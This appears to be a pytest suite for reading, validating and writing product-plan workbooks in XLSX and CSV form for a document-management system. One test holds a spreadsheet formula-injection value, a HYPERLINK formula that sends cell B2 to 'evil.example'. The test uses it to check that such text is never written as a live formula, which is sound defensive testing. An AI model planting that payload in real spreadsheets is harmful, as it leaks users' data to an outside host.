"""Plan workbooks: the template, reading (every problem named by sheet, row and column), writing back."""

from __future__ import annotations

import re
from dataclasses import replace
from datetime import date

import openpyxl
import pytest
from conftest import write_xlsx

from dms.errors import PlanError
from dms.plans import sheets as vocab
from dms.plans.model import Deliverable, MaterialNeed, Milestone, Plan, StaffNeed
from dms.plans.workbook import about_lines, read_workbook, write_template, write_workbook
from dms.plans.writer import TITLE_FORMULA
from dms.rules import load_rules

RULES = load_rules(None)

PLAN_ROWS = [["Document No", "PLAN-KX200-2025"], ["Revision", "A"], ["Product", "KX200"],
             ["Title", "Kettle KX200 lifecycle 2025"], ["Date", "2025-01-10"], ["Owner", "Anna Lindqvist"]]
MILESTONES = [["Key", "Milestone", "Phase", "Start", "Date", "Owner", "Deliverables", "Depends on"],
              ["M1", "Design freeze", "Development", "2025-01-15", "2025-02-01", "Anna",
               "SPEC-KX200-02 Rev D; CR-2024-003 approved", ""],
              ["M2", "Pilot run", "Industrialisation", "2025-02-10", "2025-03-01", "Ben", "", "M1"]]
MATERIALS = [["Milestone", "Part", "Description", "Quantity", "Unit", "Needed by", "Supplier"],
             ["M2", "lh-200", "Lid hinge", 800, "pcs", "", "Helix Components"],
             ["M2", "GS-10", "Gasket silicone", 2.5, "kg", "2025-02-20", ""]]
STAFF = [["Milestone", "Person or role", "Days", "Hours", "From", "To"],
         ["M1", "Anna Lindqvist", 5, "", "", ""],
         ["M2", "Test engineer", "", 40, "2025-02-12", "2025-02-20"]]


def book(tmp_path, name="plan.xlsx", **changes) -> object:
    sheets = {"Plan": PLAN_ROWS, "Milestones": MILESTONES, "Materials": MATERIALS, "Staff": STAFF}
    sheets.update(changes)
    return write_xlsx(tmp_path / name, {k: v for k, v in sheets.items() if v is not None})


def problems_of(path, kind="xlsx", max_rows=1000) -> list[tuple]:
    with pytest.raises(PlanError) as err:
        read_workbook(path, kind, RULES, max_rows=max_rows)
    assert "nothing was stored" in str(err.value)
    return err.value.problems


def test_a_good_workbook_reads_into_a_plan_with_defaults_filled_and_days_in_hours(tmp_path):
    plan = read_workbook(book(tmp_path), "xlsx", RULES, max_rows=1000)
    assert (plan.number, plan.revision, plan.product, plan.issued) == ("PLAN-KX200-2025", "A", "KX200",
                                                                       date(2025, 1, 10))
    m1, m2 = plan.milestones
    assert m1.deliverables == (Deliverable("SPEC-KX200-02", "D", None, "SPEC-KX200-02 Rev D"),
                               Deliverable("CR-2024-003", None, "approved", "CR-2024-003 approved"))
    assert m2.depends_on == ("M1",) and m2.row == 3
    hinge, gasket = plan.materials
    assert (hinge.part, hinge.quantity, hinge.unit, hinge.needed_by) == ("LH-200", 800, "pcs", date(2025, 2, 10))
    assert (gasket.quantity, gasket.unit, gasket.row) == (2.5, "kg", 3)
    anna, engineer = plan.staff
    assert (anna.hours, anna.start, anna.end) == (40.0, date(2025, 1, 15), date(2025, 2, 1))  # 5 days x 8 h
    assert (engineer.hours, engineer.start, engineer.end) == (40.0, date(2025, 2, 12), date(2025, 2, 20))


def test_headers_match_case_insensitively_and_by_synonym(tmp_path):
    materials = [["MILESTONE", "part number", "Qty", "UoM"], ["M2", "LH-200", "1,200", "Stk"]]
    plan = read_workbook(book(tmp_path, Materials=materials), "xlsx", RULES, max_rows=1000)
    assert [(n.part, n.quantity, n.unit) for n in plan.materials] == [("LH-200", 1200, "pcs")]


def test_missing_required_column_is_named_with_sheet_and_header_row(tmp_path):
    materials = [["Milestone", "Part", "Unit"], ["M2", "LH-200", "pcs"]]
    staff = [["Milestone", "Person or role", "From"], ["M1", "Anna", "2025-01-20"]]
    problems = problems_of(book(tmp_path, Materials=materials, Staff=staff))
    assert ("Materials", 1, "Quantity") in [p[:3] for p in problems]
    assert ("Staff", 1, "Days or Hours") in [p[:3] for p in problems]
    assert any("missing required column Quantity" in p[3] for p in problems)


def test_unknown_unit_is_named_with_sheet_row_and_column(tmp_path):
    materials = [MATERIALS[0], MATERIALS[1], ["M2", "GS-10", "Gasket", 3, "bananas", "", ""]]
    problems = problems_of(book(tmp_path, Materials=materials))
    assert [p[:3] for p in problems] == [("Materials", 3, "Unit")]
    assert "unknown unit 'bananas'" in problems[0][3]


def test_every_kind_of_dates_out_of_order_is_named(tmp_path):
    milestones = [MILESTONES[0],
                  ["M1", "Design freeze", "", "2025-03-01", "2025-02-01", "", "", ""],  # Start after Date
                  ["M2", "Pilot run", "", "", "2025-01-20", "", "", "M1"]]  # before M1, which it depends on
    materials = [MATERIALS[0], ["M2", "LH-200", "", 10, "pcs", "2025-01-25", ""]]  # needed after M2's date
    staff = [STAFF[0], ["M1", "Anna", 2, "", "2025-01-30", "2025-01-10"]]  # From after To
    problems = problems_of(book(tmp_path, Milestones=milestones, Materials=materials, Staff=staff))
    at = {p[:3]: p[3] for p in problems}
    assert set(at) == {("Milestones", 2, "Start"), ("Milestones", 3, "Date"), ("Materials", 2, "Needed by"),
                       ("Staff", 2, "From")}
    assert all("dates out of order" in what for what in at.values())
    assert "before M1" in at[("Milestones", 3, "Date")]


def test_every_problem_is_collected_before_the_error(tmp_path):
    milestones = [MILESTONES[0],
                  ["M1", "Design freeze", "", "", "1 Feb", "", "NOT-A-NUMBER", ""],
                  ["M1", "Again", "", "", "2025-02-01", "", "", ""],
                  ["M3", "", "", "", "2025-04-01", "", "", "M9"]]
    materials = [MATERIALS[0], ["M7", "LH-200", "", -5, "pcs", "", ""], ["M1", "", "", 1, "", "", ""]]
    staff = [STAFF[0], ["M1", "Anna", "", "", "", ""], ["M1", "Ben", "two", "", "", ""]]
    plan_rows = [["Document No", "SPEC-KX200-02"], ["Product", "kettle"], ["Title", ""], ["Date", "2025-13-40"]]
    problems = problems_of(book(tmp_path, Plan=plan_rows, Milestones=milestones, Materials=materials, Staff=staff))
    at = {p[:3] for p in problems}
    assert {("Plan", 1, "Document No"), ("Plan", 2, "Product"), ("Plan", 3, "Title"), ("Plan", 4, "Date"),
            ("Milestones", 2, "Date"), ("Milestones", 2, "Deliverables"), ("Milestones", 3, "Key"),
            ("Milestones", 4, "Milestone"), ("Materials", 2, "Milestone"), ("Materials", 2, "Quantity"),
            ("Materials", 3, "Part"), ("Staff", 2, "Days"), ("Staff", 3, "Days")} <= at
    text = {p[:3]: p[3] for p in problems}
    assert "is negative" in text[("Materials", 2, "Quantity")]
    assert "duplicate key M1 (first on row 2)" in text[("Milestones", 3, "Key")]
    assert "is not a date" in text[("Milestones", 2, "Date")]


def test_dependencies_on_unknown_keys_and_in_a_circle_are_refused(tmp_path):
    milestones = [MILESTONES[0],
                  ["M1", "A", "", "", "2025-02-01", "", "", "M3"],
                  ["M2", "B", "", "", "2025-02-01", "", "", "M1, M9"],
                  ["M3", "C", "", "", "2025-02-01", "", "", "M2"]]
    problems = problems_of(book(tmp_path, Milestones=milestones, Materials=[MATERIALS[0]], Staff=[STAFF[0]]))
    text = {p[:3]: p[3] for p in problems}
    assert "M9, which is no milestone's key" in text[("Milestones", 3, "Depends on")]
    assert "circle: M1 → M3 → M2 → M1" in text[("Milestones", 2, "Depends on")]


def test_missing_sheets_are_named_and_other_sheets_are_not_read(tmp_path):
    path = write_xlsx(tmp_path / "p.xlsx", {"Plan": PLAN_ROWS, "Notes": [["anything"]], "Milestones": MILESTONES})
    problems = problems_of(path)
    assert [p[:3] for p in problems] == [("Materials", None, None), ("Staff", None, None)]
    assert "missing sheet Materials" in problems[0][3]


def test_a_workbook_over_plan_max_rows_is_refused_naming_where_it_stopped(tmp_path):
    materials = [MATERIALS[0]] + [["M2", f"P-{i}", "", 1, "pcs", "", ""] for i in range(50)]
    problems = problems_of(book(tmp_path, Materials=materials), max_rows=40)
    assert any(p[0] == "Materials" and "more than 40 rows" in p[3] for p in problems)


def test_a_file_that_is_no_workbook_is_a_plan_error_not_a_crash(tmp_path):
    path = tmp_path / "plan.xlsx"
    path.write_bytes(b"PK\x03\x04 this is not a zip archive at all")
    problems = problems_of(path)
    assert "not an XLSX workbook" in problems[0][3] or "damaged" in problems[0][3]


def sample_plan() -> Plan:
    return Plan(
        "PLAN-KX200-2025", "B", "KX200", "Kettle KX200 lifecycle 2025", date(2025, 3, 1),
        milestones=(Milestone("M1", "Design freeze", "Development", date(2025, 1, 15), date(2025, 2, 1), "Anna",
                              (Deliverable("SPEC-KX200-02", "D", None, "SPEC-KX200-02 Rev D"),)),
                    Milestone("M2", "Pilot run", "Industrialisation", None, date(2025, 3, 1), "Ben",
                              (Deliverable("CR-2024-003", None, "approved", "CR-2024-003 approved"),), ("M1",))),
        materials=(MaterialNeed("M2", "LH-200", "Lid hinge", 800.0, "pcs", date(2025, 2, 10), "Helix Components"),
                   MaterialNeed("M2", "GS-10", "", 0.25, "kg", date(2025, 3, 1))),
        staff=(StaffNeed("M2", "Test engineer", 12.5, date(2025, 2, 10), date(2025, 3, 1)),))


def _without_rows(plan: Plan) -> Plan:
    return replace(plan, milestones=tuple(replace(m, row=0) for m in plan.milestones),
                   materials=tuple(replace(n, row=0) for n in plan.materials),
                   staff=tuple(replace(s, row=0) for s in plan.staff))


@pytest.mark.parametrize("name,kind", [("plan.xlsx", "xlsx"), ("plan.csv", "csv")])
def test_a_written_workbook_reads_back_to_the_same_plan(tmp_path, name, kind):
    plan = sample_plan()
    write_workbook(plan, tmp_path / name)
    back = read_workbook(tmp_path / name, kind, RULES, max_rows=1000)
    assert _without_rows(back) == plan


def test_the_csv_form_names_file_lines_in_its_problems(tmp_path):
    path = tmp_path / "plan.csv"
    path.write_text("Kettle plan\n[Plan]\nDocument No,PLAN-KX200-2025\nProduct,KX200\nTitle,Kettle plan\n\n"
                    "[Milestones]\nKey,Milestone,Date\nM1,Design freeze,2025-02-01\n\n"
                    "[Materials]\nMilestone,Part,Quantity,Unit\nM1,LH-200,10,furlongs\n\n"
                    "[Staff]\nMilestone,Person or role,Hours\n", encoding="utf-8")
    problems = problems_of(path, "csv")
    assert [p[:3] for p in problems] == [("Materials", 13, "Unit")]


def test_a_semicolon_csv_with_german_decimal_commas_reads(tmp_path):
    path = tmp_path / "plan.csv"
    path.write_text("[Plan]\nDocument No;PLAN-KX200-2025\nProduct;KX200\nTitle;Kettle plan\n"
                    "[Milestones]\nKey;Milestone;Date\nM1;Design freeze;01.02.2025\n"
                    "[Materials]\nMilestone;Part;Quantity;Unit\nM1;GS-10;2,5;kg\n"
                    "[Staff]\nMilestone;Person or role;Days\nM1;Anna;1,5\n", encoding="utf-8")
    plan = read_workbook(path, "csv", RULES, max_rows=1000)
    assert plan.milestones[0].due == date(2025, 2, 1)
    assert (plan.materials[0].quantity, plan.staff[0].hours) == (2.5, 12.0)


def test_the_template_has_every_sheet_and_an_about_sheet_naming_every_column(tmp_path):
    write_template(tmp_path / "template.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "template.xlsx")
    assert wb.sheetnames == ["Plan", "Milestones", "Materials", "Staff", "About"]
    assert (wb["Plan"]["A1"].value, wb["Plan"]["A5"].value) == (TITLE_FORMULA, "Title")  # A1 repeats B5
    about = "\n".join(str(r[0] or "") for r in wb["About"].iter_rows(values_only=True))
    for sheet, columns in vocab.COLUMNS.items():
        assert [c.value for c in wb[sheet][1]] == [main for main, *_ in columns.values()]
        for main, *_ in columns.values():
            assert f"  {main}" in about
    for label, *_ in vocab.PLAN_FIELDS.values():
        assert f"  {label}" in about
    # read as it stands, only the required Plan fields are missing: the empty tables are fine
    problems = problems_of(tmp_path / "template.xlsx")
    assert [p[:3] for p in problems] == [("Plan", 2, "Document No"), ("Plan", 4, "Product"), ("Plan", 5, "Title")]


def test_the_about_sheet_names_no_identifier_or_product_code():
    """It is ingested with every plan made from the template: an example number there would tie every plan to it."""
    from dms.identifiers import IdentifierMatcher

    text = "\n".join(about_lines())
    assert IdentifierMatcher(RULES).find(text) == []
    assert re.search(RULES.product_pattern, text) is None


def test_the_plan_sheet_must_come_first_where_the_archive_reads_number_and_revision(tmp_path):
    path = write_xlsx(tmp_path / "p.xlsx", {"About": [["Revision: A, B, C"]], "Plan": PLAN_ROWS,
                                            "Milestones": MILESTONES, "Materials": MATERIALS, "Staff": STAFF})
    problems = problems_of(path)
    assert [p[:3] for p in problems] == [("About", None, None)]
    assert "must come first" in problems[0][3]


def test_a_csv_file_far_larger_than_a_plan_is_refused_unread(tmp_path):
    path = tmp_path / "plan.csv"
    with open(path, "w", encoding="utf-8") as fh:
        fh.write("[Plan]\nDocument No,PLAN-KX200-2025\n[Materials]\nMilestone,Part,Quantity\n")
        fh.write("M1,LH-200,1\n" * 120_000)  # 1.3 MB
    problems = problems_of(path, "csv", max_rows=100)
    assert len(problems) == 1 and "larger than 1,000,000 bytes" in problems[0][3]


# -- bounds (review 16, F4) --------------------------------------------------------------------------------------
def test_a_workbook_part_declaring_more_than_the_text_bound_is_refused_before_it_is_opened(tmp_path):
    huge = [[f"M{i}", "x" * 30_000 + str(i), "", "", "2025-04-01"] for i in range(3, 60)]  # 1.7 MB of text
    path = book(tmp_path, Milestones=[*MILESTONES, *huge])  # compressed to a few KB: the declared size counts
    assert path.stat().st_size < 200_000
    with pytest.raises(PlanError) as err:
        read_workbook(path, "xlsx", RULES, max_rows=1000, max_bytes=1_000_000)
    (problem,) = err.value.problems
    assert "the workbook is not read" in problem[3] and "DMS_MAX_TEXT_MB" in problem[3]


def test_blank_rows_count_against_plan_max_rows(tmp_path):
    materials = [*MATERIALS, *([" "] for _ in range(50))]  # 15 rows of plan, then 50 rows of a space
    problems = problems_of(book(tmp_path, Materials=materials), max_rows=40)
    assert any(p[0] == "Materials" and "more than 40 rows" in p[3] for p in problems)
    assert read_workbook(book(tmp_path, "ok.xlsx", Materials=materials), "xlsx", RULES, max_rows=100).materials


def test_a_cell_longer_than_a_plan_cell_is_refused_naming_row_and_column(tmp_path):
    long_name = "Design freeze " * 200  # 2,800 characters
    milestones = [MILESTONES[0], ["M1", long_name, "", "", "2025-02-01", "", "", ""], MILESTONES[2]]
    problems = problems_of(book(tmp_path, Milestones=milestones))
    assert [p[:3] for p in problems] == [("Milestones", 2, "B")]
    assert f"{vocab.MAX_CELL_CHARS:,}" in problems[0][3]


# -- text is written as text (F5) --------------------------------------------------------------------------------
def test_text_starting_with_an_equals_sign_is_written_as_text_never_a_formula(tmp_path):
    plan = sample_plan()
    plan = replace(plan, title="=2+2", milestones=(replace(plan.milestones[0], phase="=1+1"), plan.milestones[1]),
                   materials=(replace(plan.materials[0], description='=HYPERLINK("http://evil.example/?"&B2,"x")'),
                              plan.materials[1]))
    write_workbook(plan, tmp_path / "plan.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "plan.xlsx")
    assert [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"] == []
    assert wb["Milestones"]["C2"].value == "=1+1"
    back = read_workbook(tmp_path / "plan.xlsx", "xlsx", RULES, max_rows=1000)
    assert (back.title, back.milestones[0].phase) == ("=2+2", "=1+1")
    assert back.materials[0].description.startswith("=HYPERLINK(")
    write_template(tmp_path / "template.xlsx")  # the template's title formula stays the one formula
    formulas = [c.value for ws in openpyxl.load_workbook(tmp_path / "template.xlsx").worksheets
                for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == [TITLE_FORMULA]


# -- lists in a cell (F7) ------------------------------------------------------------------------------------------
def test_milestone_keys_with_spaces_are_split_on_semicolons_and_commas_only():
    assert vocab.split_keys("Gate 1; Gate  2,M3") == ("Gate 1", "Gate 2", "M3")
    assert vocab.split_keys(vocab.join_keys(("Gate 1", "Gate 2"))) == ("Gate 1", "Gate 2")


# -- numbers: one reader for plans and supply (F8), and 1.000 (F11) --------------------------------------------------
def _quantity_of(tmp_path, written, name="plan.xlsx", **changes) -> float:
    materials = [MATERIALS[0], ["M2", "LH-200", "", written, "pcs", "", ""]]
    return read_workbook(book(tmp_path, name, Materials=materials, **changes), "xlsx", RULES,
                         max_rows=1000).materials[0].quantity


@pytest.mark.parametrize("written,value", [("1.234,5", 1234.5), ("1,234.5", 1234.5), ("12,5", 12.5),
                                           ("1 234", 1234), ("1'234", 1234), ("800", 800)])
def test_a_plan_and_a_stock_report_read_the_same_number_the_same_way(tmp_path, written, value):
    from dms.supply import cells

    assert _quantity_of(tmp_path, written) == value
    assert cells.number(written, "on hand") == value


def test_one_dot_before_three_digits_is_refused_in_a_plan_that_does_not_write_the_german_way(tmp_path):
    materials = [MATERIALS[0], ["M2", "LH-200", "", "1.000", "Stk", "", ""]]
    problems = problems_of(book(tmp_path, Materials=materials))
    assert [p[:3] for p in problems] == [("Materials", 2, "Quantity")]
    assert "ambiguous" in problems[0][3] and "write 1000 or 1,0" in problems[0][3]


def test_one_dot_before_three_digits_is_a_thousand_in_a_plan_that_writes_german_dates(tmp_path):
    plan_rows = [[k, "01.02.2025" if k == "Date" else v] for k, v in PLAN_ROWS]
    assert _quantity_of(tmp_path, "1.000", Plan=plan_rows) == 1000


def test_one_dot_before_three_digits_is_a_thousand_in_a_semicolon_csv_plan(tmp_path):
    path = tmp_path / "plan.csv"
    path.write_text("[Plan]\nDocument No;PLAN-KX200-2025\nProduct;KX200\nTitle;Kettle plan\n"
                    "[Milestones]\nKey;Milestone;Date\nM1;Design freeze;2025-02-01\n"
                    "[Materials]\nMilestone;Part;Quantity;Unit\nM1;FH-310;1.000;Stk\nM1;GS-10;1,000;kg\n"
                    "[Staff]\nMilestone;Person or role;Hours\nM1;Anna;8\n", encoding="utf-8")
    plan = read_workbook(path, "csv", RULES, max_rows=1000)
    assert [(n.part, n.quantity) for n in plan.materials] == [("FH-310", 1000), ("GS-10", 1.0)]


def _stock(tmp_path, name: str, text: str):
    from dms.supply.tables import read_file

    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return read_file(path, "csv", RULES.plans.columns(), RULES, max_rows=1000, max_bytes=10_000_000)


def test_a_stock_row_with_one_dot_before_three_digits_is_skipped_with_a_warning_unless_the_file_writes_german(
        tmp_path):
    english = _stock(tmp_path, "en.csv", "Part,Description,On hand,Unit\nFH-310,Foot,1.000,pcs\n"
                                          "LH-200,Hinge,12.5,pcs\n")
    assert [(s.part, s.on_hand) for s in english.stock] == [("LH-200", 12.5)]
    assert english.bad == 1 and "write 1000 or 1,0" in english.skipped[0]
    german = _stock(tmp_path, "de.csv", "Part,Description,On hand,Unit\nFH-310,Foot,1.000,pcs\n"
                                         "GS-10,Gasket,2,5,kg\n".replace("2,5", '"2,5"'))
    assert [(s.part, s.on_hand) for s in german.stock] == [("FH-310", 1000), ("GS-10", 2.5)]
    semicolon = _stock(tmp_path, "sc.csv", "Part;Description;On hand;Unit\nFH-310;Foot;1.000;pcs\n")
    assert [(s.part, s.on_hand) for s in semicolon.stock] == [("FH-310", 1000)]


@pytest.mark.parametrize("written,german,english", [
    ("1.000", 1000, None), ("1,000", 1, 1000), ("1.234,5", 1234.5, 1234.5), ("1,234.5", 1234.5, 1234.5),
    ("12.5", 12.5, 12.5), ("1.000.000", 1_000_000, None), ("1.23,5", None, None), ("1e5", None, None)])
def test_the_number_rule_for_files_writing_the_german_way_and_for_the_rest(written, german, english):
    from dms.plans.numbers import NotANumber, read_number

    for decimal_comma, expected in ((True, german), (False, english)):
        if expected is None:
            with pytest.raises(NotANumber):
                read_number(written, decimal_comma=decimal_comma)
        else:
            assert read_number(written, decimal_comma=decimal_comma) == expected
